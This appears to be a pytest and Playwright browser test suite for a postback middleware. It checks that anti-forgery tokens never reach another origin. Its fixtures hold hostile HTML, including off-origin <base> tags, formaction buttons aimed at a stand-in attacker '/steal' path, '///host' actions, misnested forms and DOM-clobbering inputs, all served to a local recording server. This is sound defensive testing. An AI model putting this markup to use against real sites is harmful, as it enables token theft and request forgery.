"""Tokens never leave the origin: what Chromium really sends when a page tries to send them away.

Each page comes from a small inner app wrapped in :class:`postback_middleware.PostbackMiddleware`
and served by waitress; a second server on another port (another origin) stands for the
attacker and records every request it gets. For each way a page can send a post form elsewhere
(a ``<base href>`` to another origin, a ``form="ID"`` button outside the form with an off-origin
``formaction``, a ``formmethod="get"`` button, an ``<input type=image formaction>``, and, with
scripting off, a ``<base>`` inside ``<noscript>``), the test clicks the control in Chromium and
checks the request that leaves the browser (seen by Playwright) and what the other origin
received: the form's own field is there, and neither ``__VIEWSTATE`` nor ``__EVENTVALIDATION``
is. The positive cases (a same-origin ``<base>``, a
same-origin ``formaction``) still post back and are verified. Markup that Python's parsers read
otherwise than a browser (an action of ``///host``, of a no-break space under a ``<base>``, an
``<svg>``'s ``</form>`` inside a GET form) is submitted as Chromium reads it, tokens nowhere.

A *streamed* page (the inner app returns a generator) can bring such a ``<base>`` or button in a
later piece, after its form's tokens were sent: the middleware cannot take them back, so the
client script checks each submission against the final DOM and leaves the tokens out of one
that goes elsewhere (native buttons, ``__doPostBack`` links, partial postbacks, callbacks). The
other origin answers CORS preflights as an attacker would, so a ``fetch`` there would go through.
"""

from __future__ import annotations

import html
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest

from postback_middleware import PostbackMiddleware, Registry

from ..helpers import new_key

pytestmark = pytest.mark.browser

TOKENS = ("__VIEWSTATE", "__EVENTVALIDATION")


@dataclass
class Received:
    """One request a server got."""

    method: str
    path: str
    fields: dict[str, str]  # the body's (POST) or the query's (GET) fields
    event: tuple[str, str] | None = None  # the verified postback event (the app server only)


HEAD = "<!DOCTYPE html><html><head><meta charset=utf-8><title>t</title></head><body>"


@dataclass
class Recorder:
    """A WSGI app that records its requests; ``pages`` (path -> body HTML) answer GETs, and
    ``streamed`` (path -> the body's two pieces) answer them with a generator (a streamed page).
    ``cors``: answer every origin's CORS requests and preflights, credentials included."""

    pages: dict[str, Callable[[str], str]] = field(default_factory=dict)
    streamed: dict[str, Callable[[str], tuple[str, str]]] = field(default_factory=dict)
    cors: bool = False
    seen: list[Received] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    other_origin: str = ""  # filled in once both servers run

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
        path = environ.get("PATH_INFO", "")
        query = environ.get("QUERY_STRING", "")
        cors = [("Access-Control-Allow-Origin", environ.get("HTTP_ORIGIN", "*")),
                ("Access-Control-Allow-Credentials", "true"),
                ("Access-Control-Allow-Methods", "GET, POST"),
                ("Access-Control-Allow-Headers",
                 environ.get("HTTP_ACCESS_CONTROL_REQUEST_HEADERS", "*"))] if self.cors else []
        if environ["REQUEST_METHOD"] == "POST":
            size = int(environ.get("CONTENT_LENGTH") or 0)
            fields = dict(parse_qsl(environ["wsgi.input"].read(size).decode(),
                                    keep_blank_values=True))
        else:
            fields = dict(parse_qsl(query, keep_blank_values=True))
        event = environ.get("postback.event")
        if path != "/favicon.ico":  # (the browser's own, no page's: one for a page of the
            with self.lock:  # previous test can arrive during the next, CI 2026-11-28)
                self.seen.append(Received(environ["REQUEST_METHOD"], path, fields, None
                                          if event is None else (event.target, event.argument)))
        get = environ["REQUEST_METHOD"] == "GET" and not query
        partial = "HTTP_X_POSTBACK_PANELS" in environ  # (answered with its whole page again)
        headers = [("Content-Type", "text/html; charset=utf-8"), ("Cache-Control", "no-store"),
                   *cors]
        pieces = self.streamed.get(path) if get else None
        if pieces is not None:
            first, second = pieces(self.other_origin)
            start_response("200 OK", headers)
            return (piece.encode() for piece in (HEAD + first, second + "</body></html>"))
        make = self.pages.get(path) if get or partial else None
        body = make(self.other_origin) if make is not None else (
            f"<p id=answer>{html.escape(environ['REQUEST_METHOD'])} {html.escape(path)}</p>")
        data = f"{HEAD}{body}</body></html>".encode()
        start_response("200 OK", [*headers, ("Content-Length", str(len(data)))])
        return [data]

    def wait_for(self, method: str, path: str, timeout: float = 10.0) -> Received:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                for received in self.seen:
                    if received.method == method and received.path == path:
                        return received
            time.sleep(0.02)
        raise AssertionError(f"no {method} {path} arrived; got {self.seen}")


FIELD = '<input name="note" value="kept">'
LINK = '<a href="#" id="link" data-postback="save" data-postback-argument="7">Save 7</a>'

def shifted_forms(form: str) -> str:
    """A post form in a ``<table>`` (the browser puts its hidden fields beside it, in the
    table), a post form with a partial postback, and a panel that shows what a user wrote:
    ``form`` left open, with an ``__EVENTTARGET`` of its own (the middleware gives it nothing)."""
    return ('<table><form method="post"><tr><td><input name="qty" value="1"></td></tr></form>'
            '</table><form id="main" method="post"><a href="#" id="plink" data-postback="refresh"'
            ' data-postback-panel="comments">Refresh</a></form>'
            f'<div id="comments" data-update-panel><p>A comment:</p>{form}'
            f'<input name="__EVENTTARGET" value="">{FIELD}</div>')


# path -> page body, given the other origin ("http://127.0.0.1:PORT")
PAGES: dict[str, Callable[[str], str]] = {
    "/leak/base": lambda evil: (
        f'<base href="{evil}/landing/">'
        f'<form method="post" action="save">{FIELD}{LINK}<button id="go">Go</button></form>'),
    "/leak/form-attribute": lambda evil: (
        f'<form id="f1" method="post" action="/ok">{FIELD}{LINK}</form>'
        f'<p>elsewhere: <button id="go" form="f1" formaction="{evil}/steal">Go</button></p>'),
    "/leak/formmethod-get": lambda evil: (
        f'<form method="post" action="/ok">{FIELD}{LINK}'
        '<button id="go" formmethod="get">Go</button></form>'),
    "/leak/image-input": lambda evil: (
        f'<form method="post" action="/ok">{FIELD}{LINK}'
        f'<input type="image" id="go" alt="Go" formaction="{evil}/image" '
        'style="width:60px;height:24px;display:inline-block"></form>'),
    "/leak/noscript-base": lambda evil: (
        f'<noscript><base href="{evil}/landing/"></noscript>'
        f'<form method="post" action="save">{FIELD}{LINK}<button id="go">Go</button></form>'),
    # (found by a red-team pass: a browser's reading of the markup, not Python's, decides)
    "/leak/three-slashes": lambda evil: (
        f'<form method="post" action="///{urlsplit(evil).netloc}/steal">{FIELD}'
        '<button id="go" type="button" onclick="this.form.submit()">Go</button></form>'),
    "/leak/no-break-space-action": lambda evil: (
        f'<base href="{evil}/landing/"><form method="post" action="&#xA0;">{FIELD}'
        '<button id="go" type="button" onclick="this.form.submit()">Go</button></form>'),
    "/leak/svg-form-in-a-get-form": lambda evil: (
        f'<form method="get" action="/search">{FIELD}<svg><form></form></svg>'
        '<form method="post" action="/ok"><button id="go">Go</button></form>'),
    # (scripting off: a <form> left open in <noscript> keeps the form element pointer, so the
    # post form's start tag is ignored and its fields join that form; closed: the control)
    "/leak/noscript-open-get-form": lambda evil: (
        '<noscript><form method="get" action="/search"><input name=q></noscript>'
        f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
    "/leak/noscript-open-off-origin-form": lambda evil: (
        f'<noscript><form method="post" action="{evil}/steal"><input name=q></noscript>'
        f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
    # (a </form> before the end of an element opened in the form: the browser keeps the
    # element, and the button after the </form> in it, in the form)
    "/leak/misnested-end-div": lambda evil: (
        f'<form method="post" action="/save"><div>{FIELD}</form>'
        f'<button id="go" formaction="{evil}/steal">Go</button></div>'),
    "/leak/misnested-end-table": lambda evil: (
        f'<form method="post" action="/save"><table><tr><td>{FIELD}</form>'
        f'<button id="go" formaction="{evil}/steal">Go</button></td></tr></table>'),
    "/home/noscript-closed-form": lambda evil: (
        '<noscript><form method="get" action="/search"><input name=q></form></noscript>'
        f'<form method="post" action="/save">{FIELD}<button id="go">Go</button></form>'),
    # (a partial postback's answer: its fields are written into the forms the client counts)
    "/leak/panel-off-origin-form": lambda evil: shifted_forms(
        f'<form method="post" action="{evil}/steal">'),
    "/leak/panel-get-form": lambda evil: shifted_forms('<form method="get" action="/search">'),
    "/home/base/page": lambda evil: (
        '<base href="/home/">'
        f'<form method="post" action="save">{FIELD}{LINK}'
        '<button id="go" formaction="save?via=button">Go</button></form>'),
}


PANEL = ('<div id="panel" data-update-panel><a href="#" id="plink" data-postback="refresh" '
         'data-postback-argument="1">Refresh</a></div>')


# controls that shadow the form's properties and methods the check uses (form.action is this
# input, ...; the prototypes' methods, getAttribute & co., are covered by the clobbering suite)
CLOBBERING = "".join(f'<input type="hidden" name="{name}" value="/x">' for name in (
    "action", "method", "target", "elements", "submit", "requestSubmit"))


def late_form(action: str, extra: str = "") -> str:
    """A post form with a postback link, a native submit button, a partial postback (an update
    panel) and a callback (``Echo``), for the first piece of a streamed page."""
    return (f'<form id="f1" method="post" action="{action}" data-callbacks="Echo">{FIELD}{LINK}'
            f'<button id="go">Go</button>{PANEL}{extra}</form>')


# path -> (first piece, second piece), given the other origin
STREAMED: dict[str, Callable[[str], tuple[str, str]]] = {
    # the tokens leave with the first piece; the second makes "save" resolve to the other origin
    "/late/base": lambda evil: (late_form("save"), f'<base href="{evil}/landing/">'),
    "/late/clobbered": lambda evil: (late_form("save", CLOBBERING),
                                     f'<base href="{evil}/landing/">'),
    # form="f1" buttons after the form: to the other origin, by GET, to another window
    "/late/buttons": lambda evil: (
        late_form("/late/ok"),
        f'<p><button id="steal" form="f1" formaction="{evil}/steal">Steal</button>'
        '<button id="get" form="f1" formmethod="get">Get</button>'
        f'<button id="blank" form="f1" formaction="{evil}/popup" formtarget="_blank">New</button>'
        '</p>'),
    # the positive control: the same page, and a harmless second piece
    "/late/control": lambda evil: (late_form("save"), "<p>more</p>"),
}


@pytest.fixture(scope="module")
def servers(serve: Any) -> Iterator[tuple[Recorder, str, Recorder, str]]:
    """(the app's recorder, its URL, the other origin's recorder, its URL)."""
    app, evil = Recorder(pages=PAGES, streamed=STREAMED), Recorder(cors=True)
    registry = Registry()
    registry.callback("Echo")(lambda argument, request: f"echo:{argument}")
    wrapped = PostbackMiddleware(app, secret_keys=[new_key()], registry=registry)
    with serve(wrapped) as app_url, serve(evil) as evil_url:
        app.other_origin = evil_url
        yield app, app_url, evil, evil_url


@pytest.fixture
def recorders(servers: tuple[Recorder, str, Recorder, str]) -> tuple[Recorder, Recorder]:
    app, _, evil, _ = servers
    for recorder in (app, evil):
        with recorder.lock:
            recorder.seen.clear()
    return app, evil


def open_page(page: Any, servers: tuple[Recorder, str, Recorder, str], path: str) -> str:
    """Load ``path``; its HTML as the middleware sent it."""
    response = page.goto(servers[1] + path)
    assert response.status == 200
    page.wait_for_function("typeof __doPostBack === 'function'")  # the deferred script ran
    return str(response.text())


def click_and_capture(page: Any, selector: str, predicate: Callable[[Any], bool]) -> Any:
    """Click and return the request that left the browser for it (Playwright's view)."""
    with page.expect_request(predicate) as request:
        page.click(selector)
    return request.value


def submitted_without_scripting(browser: Any, url: str, predicate: Callable[[Any], bool]
                                ) -> tuple[str, str, dict[str, str]]:
    """Load ``url`` with scripting off (nothing in the page checks a submission), check that
    it holds no token field, click ``#go`` and return the request that left for it: its
    method, URL and fields."""
    context = browser.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        response = page.goto(url)
        assert 'name="__EVENTTARGET"' in response.text()
        assert not any(f'name="{token}"' in response.text() for token in TOKENS)
        request = click_and_capture(page, "#go", predicate)
        return request.method, request.url, sent_fields(request)
    finally:
        context.close()


def sent_fields(request: Any) -> dict[str, str]:
    """The fields a form submission carried: its body (POST) or its query (GET)."""
    if request.method == "POST":
        return dict(parse_qsl(request.post_data or "", keep_blank_values=True))
    return dict(parse_qsl(urlsplit(request.url).query, keep_blank_values=True))


@pytest.mark.parametrize(
    ("path", "method", "where"),
    [
        pytest.param("/leak/base", "POST", "/landing/save", id="base-href-other-origin"),
        pytest.param("/leak/form-attribute", "POST", "/steal",
                     id="form-attribute-button-outside-the-form"),
        pytest.param("/leak/image-input", "POST", "/image", id="image-input-formaction"),
    ],
)
def test_no_tokens_reach_another_origin(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], path: str, method: str, where: str,
) -> None:
    evil_url = servers[3]
    markup = open_page(browser_page, servers, path)
    # the middleware saw the form and gave it its other fields, without tokens
    assert 'name="__EVENTTARGET"' in markup
    assert not any(f'name="{token}"' in markup for token in TOKENS)
    request = click_and_capture(browser_page, "#go", lambda r: r.url.startswith(evil_url))
    assert request.method == method
    assert urlsplit(request.url).path == where
    sent = sent_fields(request)
    assert sent["note"] == "kept"  # the submission itself is the browser's, unchanged
    assert not set(TOKENS) & set(sent)
    received = recorders[1].wait_for(method, where)
    assert received.fields["note"] == "kept"
    assert not set(TOKENS) & set(received.fields)
    assert not any(token in value for value in received.fields.values() for token in TOKENS)


def test_no_tokens_in_the_url_of_a_formmethod_get_submission(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder],
) -> None:
    app_url = servers[1]
    markup = open_page(browser_page, servers, "/leak/formmethod-get")
    assert not any(f'name="{token}"' in markup for token in TOKENS)
    request = click_and_capture(browser_page, "#go",
                                lambda r: r.url.startswith(app_url + "/ok"))
    assert request.method == "GET"
    assert sent_fields(request)["note"] == "kept"
    assert not any(token in request.url for token in TOKENS)
    # (the middleware refuses a query with reserved names, __EVENTTARGET here: the app never
    # sees it; what matters is what the URL, the history and the logs hold)
    browser_page.wait_for_url(app_url + "/ok?**")
    assert not any(token in browser_page.url for token in TOKENS)


@pytest.mark.parametrize(
    ("path", "method", "where", "elsewhere"),
    [
        pytest.param("/leak/three-slashes", "POST", "/steal", True, id="three-slashes"),
        pytest.param("/leak/no-break-space-action", "POST", "/landing/%C2%A0", True,
                     id="no-break-space-action-and-a-base"),
        pytest.param("/leak/svg-form-in-a-get-form", "GET", "/search", False,
                     id="an-svgs-form-inside-a-get-form"),
    ],
)
def test_forms_read_as_the_browser_reads_them_carry_no_tokens_away(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], path: str, method: str, where: str,
    elsewhere: bool,
) -> None:
    """A form whose action names another host only to a browser (``///host``), an action of
    a no-break space under an off-origin ``<base>``, a post form a browser folds into the GET
    form around it: the page gets no tokens, and the submission (``form.submit()``, which
    the client script does not see; or the GET form's) carries none."""
    target = servers[3] if elsewhere else servers[1]
    response = browser_page.goto(servers[1] + path)  # (no post form: no client script)
    assert response.status == 200
    assert not any(f'name="{token}"' in response.text() for token in TOKENS)
    request = click_and_capture(browser_page, "#go",
                                lambda r: r.url.startswith(target + where))
    assert request.method == method
    sent = sent_fields(request)
    assert sent["note"] == "kept"
    assert not set(TOKENS) & set(sent) and not any(token in request.url for token in TOKENS)
    if elsewhere:
        received = recorders[1].wait_for(method, urllib.parse.unquote(where, "latin-1"))
        assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)


@pytest.mark.parametrize(
    ("path", "method", "where", "elsewhere"),
    [
        pytest.param("/leak/panel-off-origin-form", "POST", "/steal", True, id="off-origin-form"),
        pytest.param("/leak/panel-get-form", "GET", "/search", False, id="get-form"),
    ],
)
def test_no_tokens_move_into_a_panels_form_that_sends_them_away(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], path: str, method: str, where: str, elsewhere: bool,
) -> None:
    """A partial postback's answer lists the fresh fields of the forms the middleware gave
    fields, and the client writes them by position into the forms holding an ``__EVENTTARGET``.
    Here both count two, shifted: the client does not count the form in the ``<table>`` (its
    fields are the table's children) and counts the panel's form (a user's ``__EVENTTARGET``).
    Written, ``#main``'s fresh tokens would land in the panel's form, which a script's
    ``form.submit()`` (no submit event: nothing withholds them) sends away. The client reloads
    the page by GET instead, writing no tokens."""
    app_url = servers[1]
    target = servers[3] if elsewhere else app_url
    page = browser_page
    markup = open_page(page, servers, path)
    assert markup.count('name="__VIEWSTATE"') == 2  # the table's form and #main
    assert page.evaluate("[].filter.call(document.forms, "
                         "f => f.querySelector('[name=__EVENTTARGET]')).length") == 2
    page.evaluate("window.before = true")
    with page.expect_response(lambda r: r.request.method == "POST" and r.url == app_url + path
                              ) as answer:
        page.click("#plink")
    assert answer.value.headers["x-postback-partial"] == "panels"
    # reloaded, or the panel's form holds tokens: then a script submits that form
    page.wait_for_function("!window.before && typeof __doPostBack === 'function' || "
                           "!!document.forms[2].querySelector('[name=__VIEWSTATE]')")
    reloaded = page.evaluate("!window.before")
    with page.expect_request(lambda r: r.url.startswith(target + where)) as submitted:
        page.evaluate("HTMLFormElement.prototype.submit.call(document.forms[2])")
    request = submitted.value
    sent = sent_fields(request)
    assert (request.method, sent["note"]) == (method, "kept")
    assert not set(TOKENS) & set(sent) and not any(token in request.url for token in TOKENS)
    if elsewhere:
        received = recorders[1].wait_for(method, where)
        assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
    assert reloaded
    # the partial postback itself was verified (the app was called with its event)
    assert [r.event for r in recorders[0].seen if r.method == "POST"] == [("refresh", "")]


@pytest.mark.parametrize(
    ("selector", "event"),
    [
        pytest.param("#go", None, id="same-origin-formaction-button"),
        pytest.param("#link", ("save", "7"), id="postback-link"),
    ],
)
def test_same_origin_base_and_formaction_still_post_back(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], selector: str, event: tuple[str, str] | None,
) -> None:
    app_url = servers[1]
    markup = open_page(browser_page, servers, "/home/base/page")
    assert all(f'name="{token}"' in markup for token in TOKENS)
    request = click_and_capture(browser_page, selector,
                                lambda r: r.method == "POST" and r.url.startswith(app_url))
    assert urlsplit(request.url).path == "/home/save"
    assert set(TOKENS) <= set(sent_fields(request))
    received = recorders[0].wait_for("POST", "/home/save")  # verified: the app was called
    assert received.fields["note"] == "kept"
    assert not set(TOKENS) & set(received.fields)  # (stripped by the middleware)
    assert received.event == event
    browser_page.wait_for_selector("#answer")
    assert browser_page.inner_text("#answer") == "POST /home/save"
    assert not recorders[1].seen


def test_no_tokens_leave_through_a_base_in_noscript_with_scripting_off(
    browser: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder],
) -> None:
    """With scripting off (Tor Browser's safest mode), <noscript> content is markup: its
    <base> is the document's base, and the form posts to the other origin, without tokens."""
    app_url, evil_url = servers[1], servers[3]
    _, url, sent = submitted_without_scripting(browser, app_url + "/leak/noscript-base",
                                               lambda r: r.url.startswith(evil_url))
    assert urlsplit(url).path == "/landing/save"
    assert sent["note"] == "kept"
    assert not set(TOKENS) & set(sent)
    received = recorders[1].wait_for("POST", "/landing/save")
    assert not set(TOKENS) & set(received.fields)


@pytest.mark.parametrize(
    ("path", "method", "elsewhere", "where"),
    [
        pytest.param("/leak/noscript-open-get-form", "GET", False, "/search",
                     id="get-form-left-open"),
        pytest.param("/leak/noscript-open-off-origin-form", "POST", True, "/steal",
                     id="off-origin-form-left-open"),
    ],
)
def test_no_tokens_join_a_form_left_open_in_noscript_with_scripting_off(
    browser: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], path: str, method: str, elsewhere: bool, where: str,
) -> None:
    """With scripting off, a <form> left open inside <noscript> keeps the parser's form
    element pointer: the post form's start tag is ignored, and its fields (and its button)
    join that form, which submits them by GET or to another origin: without tokens."""
    target = servers[3] if elsewhere else servers[1]
    sent_method, url, sent = submitted_without_scripting(
        browser, servers[1] + path, lambda r: r.url.startswith(target + where))
    assert sent_method == method
    assert sent["note"] == "kept" and "q" in sent  # (the noscript form's submission)
    assert not set(TOKENS) & set(sent) and not any(token in url for token in TOKENS)
    if elsewhere:
        received = recorders[1].wait_for(method, where)
        assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)


@pytest.mark.parametrize("path", ["/leak/misnested-end-div", "/leak/misnested-end-table"],
                         ids=["div", "table-cell"])
def test_no_tokens_leave_through_a_button_after_a_misnested_form_end(
    browser: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], path: str,
) -> None:
    """A </form> before the end of an element opened inside the form leaves the element in
    the form: Chromium submits the form with the button after the </form> (its field goes
    with it, to the other origin), and the page has no tokens to send there. (Scripting
    off: nothing in the page checks the submission.)"""
    method, _, sent = submitted_without_scripting(
        browser, servers[1] + path, lambda r: r.url.startswith(servers[3] + "/steal"))
    assert method == "POST" and sent["note"] == "kept"
    assert not set(TOKENS) & set(sent)
    received = recorders[1].wait_for("POST", "/steal")
    assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)


@pytest.mark.parametrize("scripting", [False, True], ids=["scripting-off", "scripting-on"])
def test_a_closed_form_in_noscript_leaves_the_post_forms_tokens(
    browser: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], scripting: bool,
) -> None:
    """A no-JS search form closed inside <noscript>: the post form after it keeps its tokens
    and posts back, with scripting off as with it on."""
    app_url = servers[1]
    context = browser.new_context(java_script_enabled=scripting)
    try:
        page = context.new_page()
        response = page.goto(app_url + "/home/noscript-closed-form")
        assert all(f'name="{token}"' in response.text() for token in TOKENS)
        request = click_and_capture(page, "#go", lambda r: r.method == "POST"
                                    and r.url.startswith(app_url))
        assert urlsplit(request.url).path == "/save"
        assert set(TOKENS) <= set(sent_fields(request)) and "q" not in sent_fields(request)
        received = recorders[0].wait_for("POST", "/save")  # verified: the app was called
        assert received.fields["note"] == "kept" and not set(TOKENS) & set(received.fields)
        assert not recorders[1].seen
    finally:
        context.close()


# --------------------------------------------------------------------------------------------
# Streamed pages: the <base> or button arrives after the tokens left; the client script decides


def open_streamed(page: Any, servers: tuple[Recorder, str, Recorder, str], path: str,
                  caplog: pytest.LogCaptureFixture, *, hostile: bool) -> list[Any]:
    """Load a streamed page; every request the browser sends from then on (popups too)."""
    response = page.goto(servers[1] + path)
    assert response.status == 200
    assert "content-length" not in response.headers  # streamed (chunked)
    # the form's tokens left with the first piece: the middleware could not withhold them
    assert all(f'name="{token}"' in response.text() for token in TOKENS)
    assert ("they cannot be taken back" in caplog.text) is hostile
    page.wait_for_function("typeof __doPostBack === 'function'")  # the deferred script ran
    requests: list[Any] = []
    page.context.on("request", lambda request: requests.append(request))
    return requests


def carries_tokens(request: Any) -> bool:
    return any(token in (request.post_data or "") + request.url for token in TOKENS)


def act(page: Any, action: str) -> None:
    """Click a selector ("#id"), or run a script."""
    if action.startswith("#"):
        page.click(action)
    else:
        page.evaluate(action)


@pytest.mark.parametrize(
    ("path", "action", "method", "where"),
    [
        pytest.param("/late/base", "#go", "POST", "/landing/save", id="base-native-button"),
        pytest.param("/late/base", "#link", "POST", "/landing/save", id="base-postback-link"),
        pytest.param("/late/base", "#plink", "POST", "/landing/save",
                     id="base-partial-postback"),  # (posted the ordinary way instead)
        pytest.param("/late/base", "Postback.doPostBack('save', '7')", "POST", "/landing/save",
                     id="base-Postback.doPostBack"),
        pytest.param("/late/base", "theForm.requestSubmit()", "POST", "/landing/save",
                     id="base-requestSubmit-without-submitter"),
        pytest.param("/late/clobbered", "#go", "POST", "/landing/save",
                     id="clobbered-base-native-button"),
        pytest.param("/late/clobbered", "#link", "POST", "/landing/save",
                     id="clobbered-base-postback-link"),
        pytest.param("/late/clobbered", "#plink", "POST", "/landing/save",
                     id="clobbered-base-partial-postback"),
        pytest.param("/late/buttons", "#steal", "POST", "/steal",
                     id="form-attribute-button-formaction"),
        pytest.param("/late/buttons", "#get", "GET", "/late/ok",
                     id="form-attribute-button-formmethod-get"),
    ],
)
def test_tokens_sent_in_an_earlier_piece_do_not_leave_through_a_later_one(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture,
    path: str, action: str, method: str, where: str,
) -> None:
    app_url, evil_url = servers[1], servers[3]
    origin = app_url if method == "GET" else evil_url
    requests = open_streamed(browser_page, servers, path, caplog, hostile=True)
    with browser_page.expect_request(lambda r: r.url.startswith(origin + where)) as submitted:
        act(browser_page, action)
    request = submitted.value
    sent = sent_fields(request)
    assert not set(TOKENS) & set(sent)
    assert (request.method, request.resource_type) == (method, "document")
    assert sent["note"] == "kept"  # the submission itself goes on, without the tokens
    if method == "POST":
        received = recorders[1].wait_for(method, where)
        assert received.fields["note"] == "kept"
        assert not set(TOKENS) & set(received.fields)
    else:
        browser_page.wait_for_url(f"{origin}{where}?**")
        assert not any(token in browser_page.url for token in TOKENS)
    # nothing else carried them anywhere either (a partial postback's fetch, say)
    assert [r.url for r in requests if carries_tokens(r)] == []
    with recorders[1].lock:
        assert not any(token in str(r.fields) for r in recorders[1].seen for token in TOKENS)


CALLBACKS = {
    "Postback.callback": "Postback.callback('Echo', 'x').then(r => 'ok:' + r, e => 'error:' + e)",
    "WebForm_DoCallback": ("new Promise(resolve => WebForm_DoCallback('Echo', 'x', "
                           "r => resolve('ok:' + r), null, e => resolve('error:' + e), false))"),
}


@pytest.mark.parametrize("call", CALLBACKS.values(), ids=CALLBACKS.keys())
def test_no_callback_goes_to_another_origin_through_a_later_base(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture, call: str,
) -> None:
    requests = open_streamed(browser_page, servers, "/late/base", caplog, hostile=True)
    result = browser_page.evaluate(call)
    assert [r.url for r in requests] == []  # not sent at all
    assert not recorders[1].seen
    assert result == "error:Callback failed: another origin"


@pytest.mark.parametrize(
    ("action", "event", "kind"),
    [
        pytest.param("#go", None, "document", id="native-button"),
        pytest.param("#link", ("save", "7"), "document", id="postback-link"),
        pytest.param("#plink", ("refresh", "1"), "fetch", id="partial-postback"),
        pytest.param("Postback.doPostBack('save', '7')", ("save", "7"), "document",
                     id="Postback.doPostBack"),
    ],
)
def test_a_streamed_page_without_a_hostile_piece_still_posts_back(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture,
    action: str, event: tuple[str, str] | None, kind: str,
) -> None:
    app_url = servers[1]
    open_streamed(browser_page, servers, "/late/control", caplog, hostile=False)
    with browser_page.expect_request(lambda r: r.method == "POST" and
                                     r.url.startswith(app_url + "/late/save")) as submitted:
        act(browser_page, action)
    assert submitted.value.resource_type == kind
    assert set(TOKENS) <= set(sent_fields(submitted.value))
    received = recorders[0].wait_for("POST", "/late/save")  # verified: the app was called
    assert received.fields["note"] == "kept"
    assert received.event == event
    assert not recorders[1].seen


def test_a_streamed_page_without_a_hostile_piece_still_calls_back(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture,
) -> None:
    open_streamed(browser_page, servers, "/late/control", caplog, hostile=False)
    for call in CALLBACKS.values():
        assert browser_page.evaluate(call) == "ok:echo:x"


@pytest.mark.parametrize("withheld", ["formtarget-blank", "cancelled-by-the-page"])
def test_after_a_withheld_submission_postbacks_still_carry_the_tokens(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture, withheld: str,
) -> None:
    app_url, evil_url = servers[1], servers[3]
    page = browser_page
    requests = open_streamed(page, servers, "/late/buttons", caplog, hostile=True)
    if withheld == "formtarget-blank":  # another window: this page stays
        with page.context.expect_event(
                "request", lambda r: r.url.startswith(evil_url + "/popup")) as popup:
            page.click("#blank")
        assert sent_fields(popup.value)["note"] == "kept"
        assert not set(TOKENS) & set(sent_fields(popup.value))
        assert not set(TOKENS) & set(recorders[1].wait_for("POST", "/popup").fields)
    else:  # the page's own handler cancels it: nothing is sent
        page.evaluate("document.addEventListener('submit', e => e.preventDefault())")
        page.click("#steal")
    assert [r.url for r in requests if carries_tokens(r)] == []
    with page.expect_request(lambda r: r.method == "POST" and
                             r.url.startswith(app_url + "/late/ok")) as submitted:
        page.click("#link")
    assert set(TOKENS) <= set(sent_fields(submitted.value))
    received = recorders[0].wait_for("POST", "/late/ok")  # verified: the app was called
    assert received.event == ("save", "7")
    page.wait_for_selector("#answer")
    assert page.inner_text("#answer") == "POST /late/ok"
    assert not [r for r in recorders[1].seen if r.path == "/steal"]
